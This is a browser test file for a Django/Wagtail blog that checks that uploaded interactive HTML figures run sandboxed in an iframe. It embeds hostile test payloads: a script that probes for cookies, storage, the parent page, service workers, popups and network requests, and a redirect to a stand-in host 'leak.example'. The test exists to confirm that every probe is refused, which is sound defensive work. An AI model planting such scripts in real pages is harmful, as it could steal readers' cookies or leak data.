"""An interactive figure runs apart: no cookie, no storage, no parent, no network."""

import pytest
from django.core.files.base import ContentFile
from playwright.sync_api import expect
from wagtail.documents import get_document_model

from blog.models import BlogIndexPage
from tests.factories import BlogPostPageFactory, ImageFactory

pytestmark = pytest.mark.browser

# Each try says in the frame's text what became of it.
HOSTILE = """<!doctype html><p id=said>begun</p><script>
const tries = {
  cookie: () => document.cookie,
  local: () => localStorage.length,
  session: () => sessionStorage.length,
  database: () => indexedDB.open("x") && "asked",
  parent: () => parent.document.title,
  top: () => top.location.href,
  worker: () => navigator.serviceWorker.register("/x.js") && "asked",
  popup: () => { const opened = open("/"); if (opened) return "opened"; throw new Error("none"); },
};
const said = {};
for (const [name, attempt] of Object.entries(tries)) {
  try { said[name] = `got ${attempt()}`; } catch (error) { said[name] = "refused"; }
}
const later = [
  fetch("/").then(() => "got", () => "refused").then((end) => { said.fetch = end; }),
  new Promise((done) => {
    const image = new Image();
    image.onload = () => done("got");
    image.onerror = () => done("refused");
    image.src = "/favicon.ico";
  }).then((end) => { said.image = end; }),
  new Promise((done) => {
    const script = document.createElement("script");
    script.onload = () => done("got");
    script.onerror = () => done("refused");
    script.src = "/static/js/site.js";
    document.head.append(script);
  }).then((end) => { said.script = end; }),
  new Promise((done) => {
    try {
      const socket = new WebSocket(`ws://${location.host}/`);
      socket.onopen = () => done("got");
      socket.onerror = () => done("refused");
    } catch (error) { done("refused"); }
  }).then((end) => { said.socket = end; }),
];
said.beacon = navigator.sendBeacon("/x") ? "sent or dropped" : "refused";
Promise.all(later).then(() => {
  document.getElementById("said").textContent = JSON.stringify(said);
});
</script>"""
LEAVING = "<script>location.href = 'https://leak.example/?x'</script><p>left</p>"


def post_with(html: str):
    document = get_document_model().objects.create(
        title="plot", file=ContentFile(html.encode(), "plot.html"), file_size=len(html)
    )
    image = {"image": ImageFactory().pk, "alt_text": "A curve.", "decorative": False}
    value = {"title": "The loss", "image": image, "text": "It falls.", "file": document.pk}
    parent = BlogIndexPage.objects.get()
    return BlogPostPageFactory(parent=parent, body=[("interactive", value)])


@pytest.fixture
def reader(blog_url, open_page):
    page = open_page(blog_url)
    page.asked = []
    page.on("response", lambda response: page.asked.append(response.url))
    page.faults = []
    page.on("console", lambda message: page.faults.append((message.type, message.text)))
    return page


def test_a_hostile_figure_reaches_nothing(reader, shoot):
    post = post_with(HOSTILE)
    reader.goto(post.url)
    reader.wait_for_load_state("networkidle")
    reader.evaluate("document.cookie = 'mine=1'; localStorage.setItem('mine', '1')")
    assert not any("/frames/" in address for address in reader.asked)
    assert not reader.frame_locator("iframe").locator("p").count()
    shoot(reader, "picture")
    own_faults = [text for kind, text in reader.faults if kind == "error"]
    assert own_faults == []
    begun = len(reader.asked)
    reader.get_by_role("button", name="Start the interactive figure").click()
    frame = reader.frame_locator("iframe")
    frame.get_by_text('"cookie"').wait_for()
    expect(reader.get_by_alt_text("A curve.")).to_be_hidden()
    shoot(reader, "started")
    said = frame.locator("#said").inner_text()
    assert "got" not in said
    assert said.count("refused") >= 10
    # Beside the file itself nothing was answered, here or elsewhere.
    assert [address for address in reader.asked[begun:] if "/frames/" not in address] == []


def test_a_figure_cannot_leave_for_another_place(reader):
    reader.goto(post_with(LEAVING).url)
    reader.get_by_role("button", name="Start the interactive figure").click()
    reader.wait_for_timeout(1500)
    assert not any("leak.example" in frame.url for frame in reader.frames)
